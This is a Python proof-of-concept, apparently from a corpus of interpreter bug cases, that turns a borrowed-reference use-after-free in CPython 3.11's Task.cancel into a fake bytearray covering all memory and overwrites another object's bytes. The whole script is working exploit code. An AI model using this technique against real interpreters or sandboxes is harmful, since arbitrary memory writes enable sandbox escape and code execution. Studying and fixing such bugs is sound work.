# family: wall (memory: an asyncio Task's waiter freed while Task.cancel looks up its cancel)   goal: memory   interpreter: /usr/bin/python3
# A sibling of X81 (the twelfth round's ok_01, gh-126138): another field of the C
# Task that 3.11 hands on borrowed around the program's code. Task.cancel calls
# task_fut_waiter.cancel(msg) with the waiter BORROWED. The waiter (FL: __dict__ and
# four slots: an 80-byte block, its __dict__ a managed one) has a key in its __dict__ whose hash is
# "cancel"'s: the method lookup (the type's cancel found first, then the instance
# dict searched) runs that key's __eq__. It wakes the task by hand (the callback the
# task gave FL.add_done_callback): the step clears task_fut_waiter and the coroutine
# leaves its await, so the waiter is freed; bytearray(FAKE) takes its block back (a
# fake PyByteArrayObject of 2**62 bytes at address 0). The lookup ends with the
# type's function, which C calls with the dangling waiter as self: FL.cancel keeps
# a bytearray over all memory, through which another object's bytes are written.
# Plain python3 (the image's 3.11.2): MEMORY-OVERWRITTEN. The wall: Task.cancel
# holds the task's waiter for its call (keep_args' getters).
import asyncio
keep = []
W = lambda v: v.to_bytes(8, "little")
# FL's block: 16 bytes of managed-dict pre-header, the GC head, then the object;
# the fake's fields up to ob_start fill it (79 bytes and the NUL: ob_start 0).
FAKE = (W(0) * 4 + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0))[:79]
got = []
steps = []
wake = []
class Loop:
    def get_debug(self):
        return False
    def call_soon(self, fn, *args, **kw):
        steps.append(fn)
class Done:
    def result(self):
        return None
class Key:
    def __hash__(self):
        return hash("cancel")
    def __eq__(self, other):
        if wake:
            wake.pop()(Done())             # the task's step: its waiter dropped
            for i in range(32):
                keep.append(bytearray(FAKE))
        return False
class FL:
    __slots__ = ("__dict__", "a", "b", "c", "d")
    _asyncio_future_blocking = True
    def get_loop(self):
        return loop
    def add_done_callback(self, cb, context=None):
        wake.append(cb)
    def __await__(self):
        self.__dict__[Key()] = 1
        yield self
    def cancel(self, msg=None):
        got.append(self)                   # self: the dangling waiter, refilled
        return False
async def main():
    await FL()
loop = Loop()
task = asyncio.Task(main(), loop=loop)
steps.pop(0)()                             # the task now waits on FL
task.cancel()                              # C: task_fut_waiter.cancel(msg), borrowed
mem = got[0]
print(type(mem).__name__, hex(len(mem)), flush=True)
target = bytearray(b"AAAAAAAA")
start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")
mem[start] = 0x42
if target[0] == 0x42:
    print("MEMORY-OVERWRITTEN", bytes(target))
